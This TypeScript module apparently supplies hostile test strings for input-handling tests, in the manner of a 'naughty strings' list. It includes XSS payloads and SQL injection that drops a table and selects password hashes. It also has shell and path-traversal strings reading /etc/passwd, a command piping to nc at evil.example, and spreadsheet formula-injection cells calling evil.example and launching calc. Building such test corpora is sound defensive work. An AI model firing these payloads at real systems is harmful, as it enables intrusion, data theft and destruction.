import { collectedList } from './collected.ts'

const markup = [
  '<script>alert("rondo")</script>',
  '"><img src=x onerror=alert(1)>',
  "'-alert(document.domain)-'",
  '</title><svg onload=alert(1)>',
  '</script><script src="//evil.example/x.js"></script>',
  '<a href="javascript:alert(1)">Angebot</a>',
  '<iframe srcdoc="&lt;script&gt;parent.x=1&lt;/script&gt;">',
  'javascript:/*--></title></style></textarea>*/alert(1)//',
  '<math><mtext></form><form><mglyph><style></math>',
  '&lt;b onmouseover=alert(1)&gt;fett',
  '<!--<img title="--><img src=x onerror=alert(1)>">',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}#{7*7}<%= 7*7 %>',
  ']]><x xmlns="http://www.w3.org/1999/xhtml"/>',
]

const commands = [
  "' or '1'='1",
  "'; drop table customer; --",
  "1' union select email, password_hash from customer --",
  '1); select pg_sleep(5); --',
  "\\'; vacuum; --",
  "admin'/*",
  '%27%20or%201%3D1',
  '$$; select 1; $$',
  "E'\\x27' || chr(59)",
  '; cat /etc/passwd',
  '$(touch /tmp/x) `id` | nc evil.example 1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/hosts',
  '{"$gt": ""}',
  '*)(uid=*))(|(uid=*',
]

const cells = [
  '=1+1',
  '=HYPERLINK("http://evil.example";"Preis")',
  '@SUM(A1:A9)',
  '+49|calc',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '"=1+1",""',
]

const letters = [
  '',
  ' ',
  '\u0001\u0002\u007f',
  '\u200b\u200e\u202e\ufeff',
  'Ｆｕｌｌ　ｗｉｄｔｈ',
  'İstanbul ıI ß ẞ',
  'e\u0301\u0327\u0316'.repeat(20),
  'مرحبا ‏بالعالم 123',
  '東京の本棚',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\ud800 half a pair',
  '\u2028\u2029',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
  '0x1F',
  '९९९',
  '__proto__',
  'constructor',
  'toString',
  'con.txt',
  'a\r\nset-cookie: x=1',
  '%00%0a%0d',
  '%s%n%x {0} %@',
  'x'.repeat(300),
  '"'.repeat(40),
]

/** Texts that broke somebody's shop once: ours, and the collected ones where they are there. */
export function hostileStrings(): string[] {
  const names = ['blns', 'xss', 'sql_injection', 'csv_injection']
  const theirs = names.flatMap((name) => collectedList(`strings/${name}.json`))
  return [...markup, ...commands, ...cells, ...letters, ...theirs.filter((one) => typeof one === 'string')]
}
